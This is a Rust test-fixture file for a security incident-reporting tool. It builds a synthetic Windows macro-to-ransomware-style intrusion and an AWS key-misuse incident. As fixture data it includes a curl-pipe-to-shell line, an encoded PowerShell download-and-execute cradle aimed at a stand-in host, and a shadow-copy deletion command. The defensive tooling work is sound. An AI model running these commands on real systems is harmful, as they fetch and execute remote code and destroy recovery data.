//! Two intrusions to report on: one in a cloud account, one across two Windows hosts.

use std::collections::BTreeMap;

use quell_model::{
    Alert, AlertEvent, Candidate, Confidence, Endpoint, EndpointRole, EntityKind, Entry, Incident, Investigation,
    Level, MissingTelemetry, NextAction, Phase, ProcessRef, ResourceRef, RootCause, RuleRef, Scope, ScopedProcess,
    SeverityReason, SourceCount, Step, Timestamp, Totals, Unparsed,
};

pub(crate) fn investigation() -> Investigation {
    Investigation {
        incidents: vec![host(), cloud()],
        alerts_apart: vec![
            SourceCount { name: "Whoami.EXE Execution Anomaly".into(), count: 1204 },
            SourceCount { name: "AWS Console Login Without MFA".into(), count: 3 },
        ],
        sources: vec![
            SourceCount { name: "windows.sysmon".into(), count: 40_112 },
            SourceCount { name: "aws.cloudtrail".into(), count: 8_099 },
        ],
        unparsed: vec![Unparsed {
            file: "export/day2.zip!cloudtrail/part-0007.json.gz".into(),
            offset: 1_048_576,
            reason: "the member ends in the middle of a record".into(),
        }],
        totals: Totals { inputs: 12, records: 48_211, duplicates: 312, alerts: 1_221, unparsed: 1, rules: 3_120 },
    }
}

pub(crate) fn nothing() -> Investigation {
    Investigation {
        incidents: vec![],
        alerts_apart: vec![],
        sources: vec![SourceCount { name: "aws.cloudtrail".into(), count: 17 }],
        unparsed: vec![],
        totals: Totals { inputs: 1, records: 17, rules: 3_120, ..Totals::default() },
    }
}

/// An incident of one alert and no step.
pub(crate) fn alert_only() -> Incident {
    let mut incident = cloud();
    let alert = &mut incident.alerts[0];
    alert.matched.insert("CommandLine".into(), "curl http://198.51.100.7/x | sh on build01.corp.example".into());
    incident.root_cause.chain.clear();
    incident
}

pub(crate) fn time(text: &str) -> Option<Timestamp> {
    Some(text.parse().unwrap())
}

pub(crate) fn record(file: &str, record: u64, source: &str) -> AlertEvent {
    AlertEvent { file: file.into(), record, source: source.into(), position: record }
}

pub(crate) fn entry(kind: EntityKind) -> Entry {
    Entry {
        kind,
        time: None,
        host: None,
        process: None,
        principal: None,
        credential: None,
        url: None,
        file: None,
        address: None,
    }
}

/// `(time, source, action, target, host)` with one record behind it.
pub(crate) fn step(
    at: &str,
    (source_kind, source): (EntityKind, &str),
    action: &str,
    (target_kind, target, host): (EntityKind, &str, Option<&str>),
) -> Step {
    Step {
        time: time(at),
        source_kind,
        source: source.into(),
        action: action.into(),
        target_kind,
        target: target.into(),
        host: host.map(Into::into),
        detail: None,
        evidence: vec![record("C:\\cases\\night\\ws01-sysmon.evtx", 4711, "windows.sysmon")],
        alerts: vec![],
        techniques: vec![],
        inferred: false,
        inferred_why: None,
    }
}

fn alerted(mut step: Step, alert: &str, technique: &str) -> Step {
    step.alerts.push(alert.into());
    step.techniques.push(technique.into());
    step
}

fn detailed(mut step: Step, detail: &str) -> Step {
    step.detail = Some(detail.into());
    step
}

fn inferred(mut step: Step, why: &str) -> Step {
    step.inferred = true;
    step.inferred_why = Some(why.into());
    step.evidence.clear();
    step
}

fn alert(at: &str, title: &str, level: Level, tags: &[&str]) -> Alert {
    Alert {
        rule: RuleRef {
            id: "3b6ab547-8ec2-4991-b9d2-2b06702a48d7".into(),
            title: title.into(),
            level,
            tags: tags.iter().map(|tag| (*tag).into()).collect(),
        },
        time: time(at),
        event: record("C:\\cases\\night\\ws01-sysmon.evtx", 4711, "windows.sysmon"),
        matched: BTreeMap::from([("Image".into(), "C:\\Windows\\System32\\cmd.exe".into())]),
    }
}

const WORD: &str = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
const SHELL: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
const TOOL: &str = "C:\\Users\\alice\\AppData\\Local\\Temp\\upd8.exe";
const LSASS: &str = "C:\\Windows\\System32\\lsass.exe";
const SERVICE: &str = "C:\\Windows\\PSEXESVC.exe";
const VSS: &str = "C:\\Windows\\System32\\vssadmin.exe";

fn host_chain() -> Vec<Step> {
    use EntityKind::{Credential, Domain, Endpoint, File, Process, Session, Url};
    let (ws, dc) = (Some("WS01.corp.example"), Some("DC01.corp.example"));
    vec![
        step(
            "2024-05-01T22:58:03Z",
            (File, "C:\\Users\\alice\\Downloads\\invoice-0423.docm"),
            "was opened by",
            (Process, WORD, ws),
        ),
        alerted(
            detailed(
                step("2024-05-01T22:58:41Z", (Process, WORD), "launched", (Process, SHELL, ws)),
                "powershell -nop -w hidden -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4ARABvAHcAbgBsAG8AYQBkAFMAdAByAGkAbgBnACgAJwBoAHQAdABwAHMAOgAvAC8AYwBkAG4ALgB1AHAAZAA4AC0AcwB0AGEAdABpAGMALgB6AG8AbgBlAC8AcAAnACkA",
            ),
            "Suspicious Microsoft Office Child Process",
            "T1204.002",
        ),
        step("2024-05-01T22:58:44Z", (Process, SHELL), "looked up", (Domain, "cdn.upd8-static.zone", ws)),
        step("2024-05-01T22:58:45Z", (Process, SHELL), "connected to", (Endpoint, "203.0.113.66:443", ws)),
        inferred(
            step(
                "2024-05-01T22:58:46Z",
                (Url, "https://cdn.upd8-static.zone/p/upd8.exe"),
                "was downloaded to",
                (File, TOOL, ws),
            ),
            "the file appeared one second after the connection; a proxy log or Sysmon 15 (FileCreateStreamHash) would prove it",
        ),
        step("2024-05-01T22:58:46Z", (Process, SHELL), "wrote", (File, TOOL, ws)),
        step("2024-05-01T22:58:52Z", (File, TOOL), "was run as", (Process, TOOL, ws)),
        alerted(
            step("2024-05-01T23:04:10Z", (Process, LSASS), "exposed memory to", (Process, TOOL, ws)),
            "LSASS Access From Potentially White-Listed Processes",
            "T1003.001",
        ),
        inferred(
            step("2024-05-01T23:04:10Z", (Process, TOOL), "obtained", (Credential, "CORP\\svc-backup (NTLM hash)", ws)),
            "the next logon uses svc-backup from this host; Security 4648 on WS01 would prove it",
        ),
        step(
            "2024-05-02T00:12:31Z",
            (Credential, "CORP\\svc-backup (NTLM hash)"),
            "logged on as",
            (Session, "CORP\\svc-backup (0x8f21c)", dc),
        ),
        alerted(
            step("2024-05-02T00:12:33Z", (Session, "CORP\\svc-backup (0x8f21c)"), "started", (Process, SERVICE, dc)),
            "PsExec Service Execution",
            "T1569.002",
        ),
        alerted(
            detailed(
                step("2024-05-02T00:15:02Z", (Process, SERVICE), "launched", (Process, VSS, dc)),
                "vssadmin delete shadows /all /quiet",
            ),
            "Shadow Copies Deletion Using Operating Systems Utilities",
            "T1490",
        ),
    ]
}

fn host_cause() -> RootCause {
    let first = Entry {
        time: time("2024-05-01T22:58:41Z"),
        host: Some("WS01.corp.example".into()),
        process: Some(ProcessRef { image: WORD.into(), pid: Some(6120), guid: None }),
        principal: Some("CORP\\alice".into()),
        file: Some("C:\\Users\\alice\\Downloads\\invoice-0423.docm".into()),
        ..entry(EntityKind::Process)
    };
    let other = Entry {
        time: time("2024-05-01T21:10:00Z"),
        host: Some("WS01.corp.example".into()),
        address: Some("198.51.100.23".into()),
        ..entry(EntityKind::Session)
    };
    RootCause {
        entry: first.clone(),
        weakness: "a document with macros was opened and Office may start programs".into(),
        confidence: Confidence::Medium,
        confidence_reasons: vec![
            "each hop on WS01 has its event".into(),
            "the use of the stolen hash between WS01 and DC01 is inferred".into(),
        ],
        chain: host_chain(),
        candidates: vec![
            Candidate {
                rank: 1,
                score: 8.75,
                entry: first,
                why: "earliest process that all alerts descend from".into(),
            },
            Candidate {
                rank: 2,
                score: 2.5,
                entry: other,
                why: "remote logon before the document; nothing of the chain descends from it".into(),
            },
        ],
    }
}

fn host_scope() -> Scope {
    let process = |host: &str, image: &str, pid| ScopedProcess {
        host: host.into(),
        image: image.into(),
        pid: Some(pid),
        guid: None,
    };
    Scope {
        hosts: vec!["WS01.corp.example".into(), "DC01.corp.example".into()],
        principals: vec!["CORP\\alice".into(), "CORP\\svc-backup".into()],
        credentials: vec!["CORP\\svc-backup (NTLM hash)".into()],
        processes: vec![
            process("WS01.corp.example", WORD, 6120),
            process("WS01.corp.example", SHELL, 7044),
            process("WS01.corp.example", TOOL, 7312),
            process("DC01.corp.example", SERVICE, 3300),
            process("DC01.corp.example", VSS, 3412),
        ],
        files: vec!["C:\\Users\\alice\\Downloads\\invoice-0423.docm".into(), TOOL.into()],
        resources: vec![],
    }
}

pub(crate) fn host() -> Incident {
    Incident {
        id: "inc-7c1d20e94b".into(),
        title: "Document macro on WS01 led to credential theft and deleted shadow copies on DC01".into(),
        severity: Level::Critical,
        severity_reasons: vec![
            SeverityReason { level: Level::Critical, text: "shadow copies were deleted on a domain controller".into() },
            SeverityReason {
                level: Level::High,
                text: "memory of LSASS was read; domain credentials are exposed".into(),
            },
        ],
        first_seen: time("2024-05-01T22:58:03Z"),
        last_seen: time("2024-05-02T00:15:02Z"),
        alerts: host_alerts(),
        alerts_folded: 9,
        techniques: ["T1003.001", "T1033", "T1204.002", "T1490", "T1569.002"].map(Into::into).into(),
        nodes_to_read: 11,
        root_cause: host_cause(),
        scope: host_scope(),
        endpoints: vec![
            Endpoint { address: "cdn.upd8-static.zone".into(), port: None, role: EndpointRole::ToolDownload },
            Endpoint { address: "203.0.113.66".into(), port: Some(443), role: EndpointRole::CommandAndControl },
        ],
        missing_telemetry: vec![MissingTelemetry {
            log_source: "Security 4648 on WS01".into(),
            would_show: "the use of the stolen credential towards DC01".into(),
        }],
        next_actions: host_actions(),
    }
}

fn host_alerts() -> Vec<Alert> {
    vec![
        alert(
            "2024-05-01T22:58:41Z",
            "Suspicious Microsoft Office Child Process",
            Level::High,
            &["attack.execution", "attack.t1204.002"],
        ),
        alert(
            "2024-05-01T23:04:10Z",
            "LSASS Access From Potentially White-Listed Processes",
            Level::High,
            &["attack.credential-access", "attack.t1003.001"],
        ),
        alert(
            "2024-05-01T23:05:00Z",
            "Whoami.EXE Execution Anomaly",
            Level::Medium,
            &["attack.discovery", "attack.t1033"],
        ),
        alert(
            "2024-05-02T00:12:33Z",
            "PsExec Service Execution",
            Level::Medium,
            &["attack.execution", "attack.t1569.002"],
        ),
        alert(
            "2024-05-02T00:15:02Z",
            "Shadow Copies Deletion Using Operating Systems Utilities",
            Level::Critical,
            &["attack.impact", "attack.t1490"],
        ),
    ]
}

fn host_actions() -> Vec<NextAction> {
    vec![
        action(Phase::Containment, "Isolate WS01 and DC01 from the network", "the attacker holds processes on both"),
        action(Phase::Containment, "Block 203.0.113.66 and cdn.upd8-static.zone at the proxy", "command and control"),
        action(
            Phase::Eradication,
            "Reset CORP\\svc-backup and look for other uses of it",
            "its hash was taken from LSASS",
        ),
        action(
            Phase::Analysis,
            "Collect memory of upd8.exe (pid 7312) on WS01 before it is stopped",
            "it is the only copy of the implant's keys",
        ),
        action(Phase::Recovery, "Restore shadow copies of DC01 from backup and verify them", "they were deleted"),
        action(Phase::PostIncident, "Block macros in documents from the internet", "this is how it began"),
    ]
}

fn action(phase: Phase, text: &str, why: &str) -> NextAction {
    NextAction { phase, text: text.into(), why: why.into() }
}

fn cloud_chain() -> Vec<Step> {
    use EntityKind::{Bucket, Credential, Endpoint, Principal, Secret};
    let key = "AKIAIOSFODNN7EXAMPLE";
    let role = "ASIAQ3EGEXAMPLEROLE1 (assumed-role/ops-admin/x)";
    let admin = "arn:aws:iam::111122223333:user/backup-admin2";
    vec![
        step("2024-06-11T03:14:09.5Z", (Endpoint, "198.51.100.7"), "acted through", (Credential, key, None)),
        alerted(
            step("2024-06-11T03:16:20Z", (Credential, key), "created", (Principal, admin, None)),
            "AWS IAM Backdoor Users Keys",
            "T1136.003",
        ),
        step("2024-06-11T03:17:00Z", (Credential, key), "obtained", (Credential, role, None)),
        step("2024-06-11T03:21:00Z", (Credential, role), "read", (Secret, "prod/db/master", None)),
        step("2024-06-11T05:45:10Z", (Credential, role), "read", (Bucket, "acme-customer-exports", None)),
    ]
}

pub(crate) fn cloud() -> Incident {
    let first = Entry {
        time: time("2024-06-11T03:14:09.5Z"),
        principal: Some("arn:aws:iam::111122223333:user/ci-deploy".into()),
        credential: Some("AKIAIOSFODNN7EXAMPLE".into()),
        address: Some("198.51.100.7".into()),
        ..entry(EntityKind::Credential)
    };
    Incident {
        id: "inc-02ab44f010".into(),
        title: "Access key of ci-deploy used from 198.51.100.7 to read secrets in account 111122223333".into(),
        severity: Level::High,
        severity_reasons: vec![SeverityReason {
            level: Level::High,
            text: "a secret was read with a key from a new address".into(),
        }],
        first_seen: time("2024-06-11T03:14:09.5Z"),
        last_seen: time("2024-06-11T05:45:10Z"),
        alerts: vec![alert(
            "2024-06-11T03:16:20Z",
            "AWS IAM Backdoor Users Keys",
            Level::Medium,
            &["attack.persistence", "attack.t1136.003"],
        )],
        alerts_folded: 0,
        techniques: vec!["T1136.003".into()],
        nodes_to_read: 6,
        root_cause: RootCause {
            entry: first.clone(),
            weakness: "a long-lived access key was valid from any address".into(),
            confidence: Confidence::High,
            confidence_reasons: vec![],
            chain: cloud_chain(),
            candidates: vec![Candidate {
                rank: 1,
                score: 5.0,
                entry: first,
                why: "first use of the key from this address".into(),
            }],
        },
        scope: Scope {
            principals: vec!["arn:aws:iam::111122223333:user/ci-deploy".into()],
            credentials: vec!["AKIAIOSFODNN7EXAMPLE".into(), "ASIAQ3EGEXAMPLEROLE1".into()],
            resources: vec![
                ResourceRef { kind: EntityKind::Secret, name: "prod/db/master".into(), how: "read".into() },
                ResourceRef { kind: EntityKind::Bucket, name: "acme-customer-exports".into(), how: "read".into() },
            ],
            ..Scope::default()
        },
        endpoints: vec![Endpoint { address: "198.51.100.7".into(), port: None, role: EndpointRole::Origin }],
        missing_telemetry: vec![MissingTelemetry {
            log_source: "S3 data events".into(),
            would_show: "which objects of acme-customer-exports were taken".into(),
        }],
        next_actions: vec![action(
            Phase::Containment,
            "Deactivate AKIAIOSFODNN7EXAMPLE and revoke sessions of ops-admin",
            "both are in the attacker's hands",
        )],
    }
}
